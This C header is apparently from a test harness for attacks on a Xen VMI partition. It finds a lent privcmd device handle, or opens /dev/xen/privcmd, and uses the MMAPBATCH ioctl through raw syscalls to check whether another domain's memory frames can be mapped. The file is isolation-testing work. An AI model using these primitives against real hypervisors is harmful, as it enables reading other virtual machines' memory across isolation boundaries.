// What attacks of a VMI partition on Xen need: the device that it was lent, or without the walls one of its
// own.
#pragma once
#include "attack.h"

#define HYPERCALL 0x305000u  // IOCTL_PRIVCMD_HYPERCALL (linux: include/uapi/xen/privcmd.h)
#define MMAPBATCH 0x205004u  // IOCTL_PRIVCMD_MMAPBATCH_V2
#define RESTRICT 0x25006u    // IOCTL_PRIVCMD_RESTRICT

static char names[4096];

/// The number behind "key": in the text that names what the partition was lent; -1: there is none.
static int lent(const char* key) {
  for (int handles = 3; handles < 64; ++handles) {
    if (call(8, handles, 0, 0, 0, 0, 0) != 0) continue;                          // lseek: of files alone
    const long size = call(0, handles, (long)names, sizeof names - 1, 0, 0, 0);  // read
    for (long at = 0; at < size; ++at) {
      long i = 0;
      while (key[i] && at + i < size && names[at + i] == key[i]) ++i;
      if (key[i]) continue;
      int number = 0;
      for (at += i + 2; names[at] >= '0' && names[at] <= '9'; ++at) number = number * 10 + names[at] - '0';
      return number;
    }
  }
  return -1;
}

static int privcmd(void) {
  const int handle = lent("privcmd");
  return handle >= 0 ? handle : call(257, -100, (long)"/dev/xen/privcmd", 2, 0, 0, 0);
}

/// Maps a frame of a domain; whether it is there.
static int maps(int device, unsigned short domain, unsigned long frame) {
  int error = -1;
  const long address = call(9, 0, 4096, 1, 1, device, 0);  // mmap: PROT_READ, MAP_SHARED
  struct {
    unsigned count;
    unsigned short domain;
    unsigned long address;
    const unsigned long* frames;
    int* errors;
  } batch = {1, domain, (unsigned long)address, &frame, &error};
  const long done = call(16, device, MMAPBATCH, (long)&batch, 0, 0, 0);
  return done == 0 && error == 0;
}
